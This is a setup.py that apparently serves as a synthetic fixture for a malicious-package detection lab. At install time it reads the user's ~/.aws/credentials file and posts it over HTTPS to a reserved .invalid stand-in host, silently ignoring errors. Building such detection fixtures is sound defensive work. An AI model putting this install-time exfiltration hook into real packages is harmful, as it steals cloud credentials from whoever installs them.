# SYNTHETIC test package written for slopspotter-lab: a harmless imitation of HTTPS exfiltration.
# It talks only to a reserved .invalid hostname (answered by the sandbox's own sinkhole). Only run in the sandbox.
import os
import urllib.parse
import urllib.request

try:  # install: ~/.aws/credentials as a form POST over HTTPS
    with open(os.path.expanduser("~/.aws/credentials")) as fh:
        body = urllib.parse.urlencode({"creds": fh.read()}).encode()
    urllib.request.urlopen(urllib.request.Request("https://hooks.exfil-tls.invalid/install/urllib", data=body),
                           timeout=5).read()
except Exception:
    pass

from setuptools import setup

setup(name="slop-https-urllib", version="0.1.0", description="SYNTHETIC slopspotter-lab corpus package: HTTPS exfiltration through urllib at install and import", packages=["slop_https_urllib"])
